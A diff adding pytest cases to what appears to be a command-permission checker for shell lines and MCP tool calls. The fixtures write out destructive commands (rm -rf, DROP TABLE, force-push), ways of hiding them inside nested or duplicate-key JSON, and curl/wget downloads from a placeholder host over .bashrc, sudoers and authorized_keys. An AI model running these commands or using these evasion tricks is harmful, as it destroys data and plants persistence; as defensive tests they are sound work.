@@ -80,3 +80,84 @@ def test_program_name_folds_case_only_onto_a_known_program(word: str, name: str)
                                   "Get-ChildItem", "MyOwnTool --help", "Cat README.md"])
 def test_read_only_commands_in_another_case_stay_allowed(line: str) -> None:
     assert shell(line) == "allow"
+
+
+# ---- MCP arguments given as a JSON string --------------------------------------------------------
+
+def _text(value: Any) -> str:
+    return json.dumps(value)
+
+
+JSON_STRING_ARGUMENTS = [
+    ("db", "query", {"params": _text({"sql": "DROP TABLE users"})}),
+    ("db", "query", {"params": "  \n" + _text({"sql": "DROP TABLE users"})}),
+    ("postgres", "run", {"arguments": _text({"sql": "DELETE FROM users"})}),
+    ("shell", "run", {"arguments": _text({"command": "rm -rf ~"})}),
+    ("shell", "run", {"input": _text(["rm", "-rf", "/"])}),
+    ("tools", "invoke", {"input": _text(["rm", "-rf", "/"])}),
+    ("tools", "invoke", {"payload": _text({"cmd": "git push --force origin main"})}),
+    ("tools", "invoke", {"batch": [{"params": _text({"command": "rm -rf ~"})}]}),
+    ("tools", "invoke", {"request": {"body_json": _text({"command": "rm -rf ~"})}}),
+    ("shell", "run", {"arguments": _text({"params": _text({"command": "rm -rf ~"})})}),  # JSON in JSON
+    ("shell", "run", {"arguments": _text({"name": "run_command", "arguments": {"command": "rm -rf ~"}})}),
+]
+
+
+@pytest.mark.parametrize("server,tool,arguments", JSON_STRING_ARGUMENTS)
+def test_a_json_string_argument_is_read_as_the_arguments_it_holds(server: str, tool: str, arguments: Any) -> None:
+    assert mcp(server, tool, arguments) != "allow"
+
+
+@pytest.mark.parametrize("server,tool,arguments", [
+    ("shell", "run", {"arguments": '{"command": "ls", "command": "rm -rf ~"}'}),  # a key named twice
+    ("tools", "invoke", {"params": "[" * 30 + "1" + "]" * 30}),  # nested deeper than is read
+])
+def test_json_text_that_cannot_be_read_safely_is_asked(server: str, tool: str, arguments: Any) -> None:
+    assert mcp(server, tool, arguments) != "allow"
+
+
+@pytest.mark.parametrize("server,tool,arguments", [
+    ("postgres", "query", {"params": _text({"sql": "SELECT 1"})}),
+    ("postgres", "query", {"sql": "SELECT * FROM t WHERE x = $1", "params": _text([1, "a"])}),
+    ("tools", "search", {"query": "[draft] notes", "filter": "{not json"}),
+    ("filesystem", "write_file", {"path": "/tmp/tasks.json", "content": _text({"command": "rm -rf ~"})}),
+    ("github", "list_issues", {"owner": "a", "repo": "b", "labels": _text(["bug", "help wanted"])}),
+])
+def test_json_strings_of_harmless_arguments_and_file_content_stay_allowed(server: str, tool: str,
+                                                                          arguments: Any) -> None:
+    assert mcp(server, tool, arguments) == "allow"
+
+
+# ---- curl's and wget's output options, glued or not ----------------------------------------------
+
+DOWNLOADS_OVER_FILES = [
+    "curl -sSLo/home/u/.bashrc https://x.example/a",
+    "curl -o/home/u/.bashrc https://x.example/a",
+    "curl -sLo~/.profile https://x.example/a",
+    "curl --output=/home/u/.bashrc https://x.example/a",
+    "curl --output /home/u/.bashrc https://x.example/a",
+    "curl -o ~/.ssh/authorized_keys https://x.example/k",
+    "curl -fsSL https://x.example/a -o~/.zshrc",
+    "wget -O/home/u/.bashrc https://x.example/a",
+    "wget -qO/home/u/.bashrc https://x.example/a",
+    "wget -O ~/.bashrc https://x.example/a",
+    "wget --output-document=/home/u/.bashrc https://x.example/a",
+    "wget -qO/etc/profile.d/x.sh https://x.example/a",
+    "sudo curl -sSLo/etc/sudoers https://x.example/a",
+    "xh -o/home/u/.bashrc https://x.example/a",
+]
+
+
+@pytest.mark.parametrize("line", DOWNLOADS_OVER_FILES)
+def test_a_download_over_a_file_outside_the_project_is_asked(line: str) -> None:
+    assert shell(line) != "allow"
+
+
+@pytest.mark.parametrize("line", ["curl -sSLo /tmp/x.tar.gz https://x.example/a",
+                                  "curl -sSLo/tmp/x.tar.gz https://x.example/a",
+                                  "wget -qO- https://x.example/a", "wget -O - https://x.example/a",
+                                  "curl -s -o /dev/null -w '%{http_code}' https://x.example/a",
+                                  "curl -sSLO https://x.example/a.tgz", "wget -q https://x.example/a.tgz",
+                                  "curl -fsSL https://x.example/a"])
+def test_downloads_to_scratch_or_stdout_stay_allowed(line: str) -> None:
+    assert shell(line) == "allow"
